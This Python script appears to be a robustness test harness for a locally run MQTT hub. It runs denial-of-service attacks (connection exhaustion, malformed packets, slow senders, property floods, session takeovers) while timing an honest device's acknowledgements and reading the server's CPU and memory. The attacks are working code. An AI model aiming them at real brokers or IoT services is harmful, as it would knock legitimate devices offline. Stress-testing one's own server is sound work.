#!/usr/bin/env python3
"""Attacks a running hub from a process of its own while another measures what an honest device notices.

  attack.py --host hub.localhost --port 11883 --device ID:KEY --victim ID:KEY --pid PID

The port is the plain MQTT port. PID is the server's: its processor time and resident memory are read from /proc. Each attack
prints one line: the honest device's acknowledgements (QoS 1, durable) alone and meanwhile, and what the server needed.
Needs Python 3.9 and nothing else; `ulimit -n 20000` for the ten thousand connections.
"""
import argparse, base64, hashlib, hmac, multiprocessing, os, select, socket, struct, sys, threading, time, urllib.parse


def string(text):
    data = text.encode()
    return struct.pack('>H', len(data)) + data


def packet(kind, body):
    length, out = len(body), bytearray([kind])
    while True:
        length, digit = length >> 7, length & 0x7F
        out.append(digit | (0x80 if length else 0))
        if not length:
            return bytes(out) + body


def token(host, device, key):
    resource = urllib.parse.quote(f'{host}/devices/{device}', safe='')
    expiry = int(time.time()) + 3600
    digest = hmac.new(base64.b64decode(key), f'{resource}\n{expiry}'.encode(), hashlib.sha256).digest()
    return f'SharedAccessSignature sr={resource}&sig={urllib.parse.quote(base64.b64encode(digest), safe="")}&se={expiry}'


def connect_packet(host, device, key, level=4):
    properties = b'\x00' if level == 5 else b''
    user = f'{host}/{device}/?api-version=2021-04-12'
    body = string('MQTT') + bytes([level, 0xC2]) + struct.pack('>H', 240) + properties + string(device) + string(user) + string(token(host, device, key))
    return packet(0x10, body)


def opened(options):
    peer = socket.create_connection(('127.0.0.1', options.port))
    peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return peer


def logged_in(options, who, level=4):
    peer = opened(options)
    peer.sendall(connect_packet(options.host, *who.split(':', 1), level))
    answer = peer.recv(256)
    if len(answer) < 4 or answer[3] != 0:
        raise SystemExit(f'The hub refuses the connection: {answer.hex()}')
    return peer


class Honest:
    """Sends one event after the other, two milliseconds apart, and times each acknowledgement."""

    def __init__(self, options):
        self.peer = logged_in(options, options.device)
        self.topic = string(f'devices/{options.device.split(":")[0]}/messages/events/')
        self.number = 0

    def measure(self, seconds):
        times, end = [], time.monotonic() + seconds
        while time.monotonic() < end:
            self.number = self.number % 60000 + 1
            start = time.perf_counter()
            self.peer.sendall(packet(0x32, self.topic + struct.pack('>H', self.number) + b'x' * 200))
            answer = b''
            while len(answer) < 4:
                answer += self.peer.recv(4 - len(answer)) or sys.exit('The hub has closed the honest device.')
            times.append((time.perf_counter() - start) * 1000)
            time.sleep(0.002)
        times.sort()
        return times[len(times) // 2], times[len(times) * 99 // 100], len(times)


def cpu(pid):
    fields = open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf('SC_CLK_TCK')


def resident(pid):
    return int(open(f'/proc/{pid}/statm').read().split()[1]) * os.sysconf('SC_PAGE_SIZE') / 1e6


# The attacks: each runs until it is killed, or ends by itself. They say through `ready` when the pressure is on.

def half_open(options, ready):
    peers = []
    for i in range(10_000):
        peer = opened(options)
        peer.sendall([b'', b'\x10', b'\x10\x7f\x00\x04MQTT\x04\xc2'][i % 3])
        peers.append(peer)
    ready.set()
    time.sleep(60)


def bombs(options, ready):
    kinds = [b'\x10\xff\xff\xff\x7f', b'\x30\xff\xff\xff\x7f', b'\x10' + b'\xff' * 4000, b'\x40\x02\x00\x01' * 1000, b'\x62\x02\x00\x01',
             b'\xc0\x00', b'\xf0\x00', b'\x10\x04\xff\xffMQ', b'GET / HTTP/1.1\r\nHost: x\r\n\r\n']
    ready.set()
    i = 0
    while True:
        i += 1
        with opened(options) as peer:
            try:
                peer.sendall(kinds[i % len(kinds)])
                while peer.recv(4096):
                    pass
            except OSError:
                pass
        time.sleep(0.0005)


def farewell(options, ready):
    peers = []
    for _ in range(2000):
        peer = opened(options)
        peer.sendall(b'\x10\x7f\x00\x04M')
        peer.shutdown(socket.SHUT_WR)
        peers.append(peer)
    ready.set()
    time.sleep(60)


def slow_senders(options, ready):
    connect = connect_packet(options.host, *options.victim.split(':', 1))
    peers = [opened(options) for _ in range(1000)]
    ready.set()
    for i in range(len(connect) - 1):
        for j, peer in enumerate(peers):
            try:
                peer.send(connect[i:i + 1])
            except OSError:
                peers[j] = opened(options)
        time.sleep(0.5)


def properties(options, ready):
    pairs = b''.join(b'\x26' + string('n') + string('v') for _ in range(40_000))
    length, prefix = len(pairs), bytearray()
    while True:
        length, digit = length >> 7, length & 0x7F
        prefix.append(digit | (0x80 if length else 0))
        if not length:
            break
    flood = packet(0x32, string(f'devices/{options.victim.split(":")[0]}/messages/events/') + b'\x00\x01' + bytes(prefix) + pairs)
    ready.set()
    while True:
        try:
            with logged_in(options, options.victim, 5) as peer:
                peer.sendall(flood)
                peer.recv(4096)
        except OSError:
            pass
        time.sleep(0.02)


def stalled_reader(options, ready):
    ready.set()
    while True:
        peer = logged_in(options, options.victim)
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        try:
            while True:
                peer.sendall(b'\xc0\x00' * 2000)
                time.sleep(0.005)
        except OSError:
            pass


def takeovers(options, ready):
    ready.set()
    connect = connect_packet(options.host, *options.victim.split(':', 1))

    def fight():
        last = None
        for _ in range(5000):
            peer = opened(options)
            try:
                peer.sendall(connect)
                peer.recv(256)
            except OSError:
                pass
            if last:
                last.close()
            last = peer
        last.close()

    fighters = [threading.Thread(target=fight) for _ in range(2)]
    for fighter in fighters:
        fighter.start()
    for fighter in fighters:
        fighter.join()


ATTACKS = [half_open, farewell, bombs, slow_senders, properties, stalled_reader, takeovers]


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument('--host', default='hub.localhost')
    parser.add_argument('--port', type=int, required=True)
    parser.add_argument('--device', required=True)
    parser.add_argument('--victim', required=True)
    parser.add_argument('--pid', type=int, required=True)
    parser.add_argument('--seconds', type=float, default=5)
    parser.add_argument('attacks', nargs='*', metavar='attack', help=', '.join(attack.__name__ for attack in ATTACKS))
    options = parser.parse_args()
    honest = Honest(options)
    honest.measure(2)
    print('attack           p50/p99 alone, ms   p50/p99 meanwhile, ms   server CPU s/s alone, meanwhile   resident MB before, meanwhile, after')
    for attack in ATTACKS:
        if options.attacks and attack.__name__ not in options.attacks:
            continue
        before, start = resident(options.pid), cpu(options.pid)
        alone = honest.measure(options.seconds)
        idle = (cpu(options.pid) - start) / options.seconds
        ready = multiprocessing.Event()
        attacker = multiprocessing.Process(target=attack, args=(options, ready))
        attacker.start()
        ready.wait()
        start, begun = cpu(options.pid), time.monotonic()
        meanwhile = honest.measure(options.seconds)
        took = time.monotonic() - begun
        busy, during = (cpu(options.pid) - start) / took, resident(options.pid)
        if attack is takeovers:
            attacker.join(120)
            took = time.monotonic() - begun
        attacker.kill()
        attacker.join()
        honest.measure(2)
        print(f'{attack.__name__:16} {alone[0]:8.2f} /{alone[1]:8.2f}   {meanwhile[0]:8.2f} /{meanwhile[1]:8.2f}         '
              f'{idle:8.3f} {busy:8.3f}                 {before:8.1f} {during:8.1f} {resident(options.pid):8.1f}'
              + (f'   10,000 in {took:.1f} s' if attack is takeovers else ''), flush=True)


if __name__ == '__main__':
    main()
